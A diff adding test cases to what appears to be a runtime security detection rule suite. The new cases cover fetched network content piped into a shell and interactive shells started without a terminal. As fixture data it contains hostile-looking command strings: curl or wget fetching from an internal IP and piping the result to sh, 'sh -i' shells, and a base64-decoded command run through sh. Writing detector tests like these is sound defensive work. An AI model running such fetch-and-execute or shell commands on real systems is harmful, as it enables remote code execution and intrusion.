@@ -152,6 +152,26 @@ CASES: Cases = {
         [[started("sh", event=_PIPED), started("wget -qO- http://10.0.0.9/x", event=_PIPING)]],
         [[started("sh run.sh", event=_PIPED), started("wget -q http://10.0.0.9/x")]],
     ),
+    "Fetched text run as a command": (
+        [
+            [
+                started("curl -s http://10.0.0.9/x", event=_PIPING),
+                started("sh -c id; true", event={"proc.cmdlenargs": 10}),
+            ]
+        ],
+        [
+            [started("curl -s http://10.0.0.9/x"), started("sh -c id; true", event={"proc.cmdlenargs": 10})],
+            [started("curl -s http://10.0.0.9/x", event=_PIPING), started("sh install.sh")],
+        ],
+    ),
+    "Interactive shell without a terminal": (
+        [started("sh -i", event=_PIPED, parents="node bash")],
+        [
+            started("sh -i", event=_PIPED | {"proc.tty": 34816}),
+            started("bash -i", event={"proc.stdin.type": "file"}),
+            started("bash run.sh", event=_PIPED),
+        ],
+    ),
     "Encoded command run": (
         [
             started("sh -c echo aWQ= | base64 -d | sh"),
